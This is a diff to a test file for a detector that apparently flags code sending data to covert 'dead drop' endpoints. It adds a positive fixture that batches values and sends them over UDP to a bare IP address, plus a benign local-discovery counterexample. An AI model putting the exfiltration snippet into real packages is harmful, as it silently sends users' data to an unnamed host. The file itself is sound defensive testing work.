@@ -190,6 +190,13 @@ examine(sendsToDeadDrop, {
       weight: 'weak',
     },
     { when: 'an import asks a cheap host', files: { 'index.js': `fetch('https://${workers}/x')` }, weight: 'weak' },
+    {
+      when: 'datagrams go to an address without a name when a function is called',
+      files: {
+        'index.js': `const dgram = require('dgram'), kept = []; exports.keep = one => { kept.push(one); if (kept.length > 9) dgram.createSocket('udp4').send(JSON.stringify(kept), 5514, '203.0.113.40'); };`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -239,5 +246,11 @@ examine(sendsToDeadDrop, {
       files: { 'index.js': `exports.post = (url, text) => fetch(url, { method: 'POST', body: text })` },
     },
     { when: 'it asks a service with a name', files: { 'index.js': `fetch('https://api.acme.invalid/')` } },
+    {
+      when: 'a group of its own network is asked who is there',
+      files: {
+        'index.js': `const dgram = require('dgram'); exports.find = () => { const socket = dgram.createSocket('udp4'); socket.send('M-SEARCH * HTTP/1.1', 1900, '239.255.255.250'); socket.send('wake', 9, '255.255.255.255'); };`,
+      },
+    },
   ],
 });
